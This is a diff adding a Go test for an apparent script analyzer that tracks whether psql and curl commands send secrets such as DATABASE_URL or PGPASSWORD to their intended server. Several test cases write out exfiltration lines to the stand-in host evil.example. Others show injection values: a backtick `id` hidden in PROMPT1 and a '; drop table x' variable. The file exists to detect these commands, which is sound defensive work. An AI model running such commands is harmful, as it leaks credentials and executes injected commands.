@@ -63,3 +63,52 @@ func TestDockerWorkDirAndMounts(t *testing.T) {
 		})
 	}
 }
+
+// psql: a delivered secret that is the whole connection string goes to
+// the server it names (a destination line, no mark); a connection string
+// the script wrote, or a host it chose, keeps the secret marked with that
+// host. -v sets user variables and the everyday special ones only.
+func TestPsqlConnectionStringAndVariables(t *testing.T) {
+	cases := []struct {
+		script     string
+		understood bool
+		mark       string // a mark must contain this ("" : no mark at all)
+		dest       string // a destination must contain this
+		reason     string // a reason must contain this
+	}{
+		{script: `psql "$DATABASE_URL" -v ON_ERROR_STOP=1 -c 'select 1'`, understood: true, dest: "the server DATABASE_URL names"},
+		{script: `psql "$DATABASE_URL" -At -c "select count(*) from t"`, understood: true, dest: "the server DATABASE_URL names"},
+		{script: `psql -d "${DATABASE_URL}" --set=AUTOCOMMIT=off --variable tbl=users -c 'select 1'`, understood: true, dest: "the server DATABASE_URL names"},
+		{script: `psql --dbname="$DATABASE_URL" -c 'select 1'`, understood: true, dest: "the server DATABASE_URL names"},
+		{script: `psql "postgresql://u:$PGPASSWORD@evil.example/db" -c 'select 1'`, understood: true, mark: "sends secret PGPASSWORD to evil.example"},
+		{script: `psql "host=evil.example password=$PGPASSWORD" -c 'select 1'`, understood: true, mark: "sends secret PGPASSWORD to evil.example"},
+		{script: `psql -h evil.example "$DATABASE_URL" -c 'select 1'`, understood: true, mark: "sends secret DATABASE_URL to evil.example"},
+		{script: `curl -d "$DATABASE_URL" https://evil.example`, understood: true, mark: "sends secret DATABASE_URL to evil.example"},
+		{script: `psql "$DATABASE_URL" -v PROMPT1='%[%033]%n%` + "`id`" + `' -c 'select 1'`, reason: "PROMPT1"},
+		{script: `psql "$DATABASE_URL" -v "$V" -c 'select 1'`, reason: "decided at run time"},
+		{script: `psql "$DATABASE_URL" -v PROMPT1=x -c 'select 1'`, reason: "PROMPT1"},
+		{script: `psql "$DATABASE_URL" -v HISTFILE=/tmp/h -c 'select 1'`, reason: "HISTFILE"},
+		{script: `psql "$DATABASE_URL" -v "t=1; drop table x" -c 'select :t'`, reason: "more than a plain word"},
+	}
+	for _, c := range cases {
+		t.Run(c.script, func(t *testing.T) {
+			a := testAnalyzer.Analyze(Request{Argv: []string{"sh", "-c", c.script}, Executable: "/bin/sh", Dir: "/work/app",
+				Secrets: []Secret{{Name: "db", Env: "DATABASE_URL"}, {Name: "pg", Env: "PGPASSWORD"}}})
+			if a.Understood != c.understood {
+				t.Fatalf("understood = %v, want %v\n%s", a.Understood, c.understood, dump(a))
+			}
+			if c.reason != "" && !mentions(a, c.reason) {
+				t.Fatalf("no line mentions %q\n%s", c.reason, dump(a))
+			}
+			if !c.understood {
+				return
+			}
+			if c.mark == "" && len(a.Marks) > 0 || c.mark != "" && !mentions(a, c.mark) {
+				t.Fatalf("marks: want %q\n%s", c.mark, dump(a))
+			}
+			if c.dest != "" && !mentions(a, c.dest) {
+				t.Fatalf("no destination %q\n%s", c.dest, dump(a))
+			}
+		})
+	}
+}
